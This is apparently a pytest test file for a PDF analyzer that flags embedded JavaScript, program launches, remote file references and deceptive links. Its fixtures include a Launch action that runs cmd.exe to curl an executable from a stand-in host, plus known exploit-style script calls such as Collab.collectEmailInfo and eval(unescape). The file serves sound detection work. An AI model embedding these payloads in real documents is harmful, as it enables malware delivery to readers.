"""What a PDF sets off, when, and where on its pages."""

from __future__ import annotations

import time

import pytest

from analyzers.attachments.pdf_actions import UNIT
from analyzers.model.artifact import Artifact
from analyzers.model.content import Link
from analyzers.model.observation import Child, Observation, Severity
from analyzers.model.unit import Context, Unreadable
from analyzers.sniff import sniff
from tests.analyzers.attachments.observed import children, facts, findings, observe, survives
from tests.samples import pdfs


def seen(data: bytes) -> list[Observation]:
    return observe(UNIT, data, "a.pdf", "pdf")


def act(body: bytes) -> bytes:
    return pdfs.document(b"/OpenAction<<%b>>" % body)


def test_an_honest_page_has_nothing() -> None:
    found = seen(pdfs.document(b"/OpenAction[3 0 R /Fit]"))
    assert findings(found) == {}
    assert facts(found) == {"Pages": "1"}


def test_an_address_comes_with_its_page_and_area_and_is_judged() -> None:
    found = seen(pdfs.document(b"", pdfs.link(b"http://203.0.113.5/a.exe")))
    (link,) = [one for one in found if isinstance(one, Link)]
    assert (link.url, link.source) == ("http://203.0.113.5/a.exe", "area")
    assert link.where == "page 1, area 100,100 200×40"
    assert {"link.host.ip", "link.program"} <= set(findings(found))


def test_the_words_under_a_link_are_compared_with_where_it_leads() -> None:
    font, content = pdfs.text(["www.example.com/login"])
    page = font + pdfs.link(b"http://elsewhere.test/x", b"50 697 300 715")
    found = seen(pdfs.document(b"", page, content=content))
    (link,) = [one for one in found if isinstance(one, Link)]
    assert (link.text, link.shown) == ("www.example.com/login", "example.com")
    assert findings(found)["link.text.mismatch"].severity is Severity.MEDIUM


def test_a_script_goes_down_the_tree_as_a_script() -> None:
    found = seen(pdfs.document(pdfs.script(b"app.alert(1)")))
    assert findings(found)["pdf.javascript"].severity is Severity.LOW
    assert findings(found)["pdf.javascript"].where == "on opening"
    assert children(found) == {"script 1": b"app.alert(1)"}
    (child,) = [one for one in found if isinstance(one, Child)]
    assert sniff(child.data, child.name, child.declared_type) == "js"


@pytest.mark.parametrize(
    "catalog",
    [
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 5 0 R>>]>>>>",
        b"/AA<</O<</S/JavaScript/JS 5 0 R>>>>",
        b"/OpenAction<</S/GoTo/D[3 0 R /Fit]/Next<</S/JavaScript/JS 5 0 R>>>>",
    ],
)
def test_scripts_that_run_on_opening(catalog: bytes) -> None:
    found = seen(pdfs.document(catalog, b"", pdfs.stream(b"run()", packed=True)))
    assert findings(found)["pdf.javascript"].title == "Opening the PDF runs a script"
    assert children(found) == {"script 1": b"run()"}


def test_scripts_at_other_places_are_found_too() -> None:
    wide = "go()".encode("utf-16")
    at_click = b"/Annots[<</Subtype/Widget/Rect[0 0 9 9]/AA<</U<</S/JavaScript/JS<%b>>>>>>>]"
    found = seen(pdfs.document(b"", at_click % wide.hex().encode()))
    assert findings(found)["pdf.javascript"].severity is Severity.INFO
    assert findings(found)["pdf.javascript"].where == "page 1, area 0,0 9×9"
    assert children(found) == {"script 1": b"go()"}
    loose = pdfs.document(b"", b"", b"<</Anything[<</S/JavaScript/JS(hid())>>]>>")
    assert findings(seen(loose))["pdf.javascript"].where == "hung up elsewhere"


@pytest.mark.parametrize(
    ("code", "rule", "severity"),
    [
        (b"this.exportDataObject\\({cName:1,nLaunch:2}\\)", "pdf.javascript.opens", Severity.HIGH),
        (b"this.getURL\\('http://a.test'\\)", "pdf.javascript.sends", Severity.LOW),
        (b"Collab.collectEmailInfo\\(x\\)", "pdf.javascript.exploit", Severity.HIGH),
        (b"\\neval\\(unescape\\(a\\)\\)", "pdf.javascript.disguised", Severity.MEDIUM),
    ],
)
def test_telling_calls(code: bytes, rule: str, severity: Severity) -> None:
    assert findings(seen(pdfs.document(pdfs.script(code))))[rule].severity is severity


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        (b"/S/Launch/Win<</F(cmd.exe)/P(/c curl http://a.test/x -o x.exe)>>", Severity.CRITICAL),
        (b"/S/Launch/F<</F(setup.exe)>>", Severity.HIGH),
        (b"/S/Launch/F(chapter2.pdf)", Severity.LOW),
    ],
)
def test_programs_are_launched(body: bytes, severity: Severity) -> None:
    assert findings(seen(act(body)))["pdf.launch"].severity is severity


@pytest.mark.parametrize(
    ("body", "rule", "severity"),
    [
        (rb"/S/GoToR/F(\\\\files.example.com\\x\\a.pdf)", "pdf.remote", Severity.HIGH),
        (rb"/S/GoToE/F(\\\\server\\x\\a.pdf)", "pdf.remote", Severity.LOW),
        (b"/S/GoToR/F(part2.pdf)", "pdf.goto", Severity.INFO),
        (b"/S/ImportData/F(values.fdf)", "pdf.goto", Severity.INFO),
    ],
)
def test_other_documents(body: bytes, rule: str, severity: Severity) -> None:
    assert findings(seen(act(body)))[rule].severity is severity


def test_media_are_named() -> None:
    page = b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"
    assert findings(seen(pdfs.document(b"", page)))["pdf.media"].evidence == "RichMedia 1"


def test_a_script_that_does_not_unpack_is_no_clean_one() -> None:
    broken = pdfs.stream(b"run()", b"/Filter/FlateDecode")
    found = seen(pdfs.document(b"/OpenAction<</S/JavaScript/JS 5 0 R>>", b"", broken))
    assert findings(found)["pdf.javascript.unread"].incomplete


def test_a_file_that_does_not_open_still_gives_its_addresses() -> None:
    broken = pdfs.document(b"", pdfs.link(rb"http://203.0.113.5/a\(1\).exe")).replace(
        b"/Kids", b"/Kixs"
    )
    found: list[Observation] = []
    said = UNIT.examine(Artifact.of(broken, "a.pdf", "pdf"), Context())
    with pytest.raises(Unreadable):
        found.extend(said)
    (link,) = [one for one in found if isinstance(one, Link)]
    assert link.url == "http://203.0.113.5/a(1).exe"
    assert "link.host.ip" in findings(found)


def test_bounds_are_findings_and_end_soon() -> None:
    started = time.process_time()
    assert findings(seen(pdfs.many_links()))["limit.pdf.actions"]
    scripts = [b"<</S/JavaScript/JS(a%d)>>" % number for number in range(150)]
    assert findings(seen(pdfs.document(b"", b"", *scripts)))["limit.pdf.scripts"]
    ring = b"/OpenAction 5 0 R"
    assert findings(seen(pdfs.document(ring, b"", b"<</S/JavaScript/JS(a)/Next 5 0 R>>")))
    assert time.process_time() - started < 6


def test_damage_never_escapes() -> None:
    whole = pdfs.document(pdfs.script(b"a()"), pdfs.link(b"http://a.test/"))
    assert survives(UNIT, whole, "pdf", 200) > 60
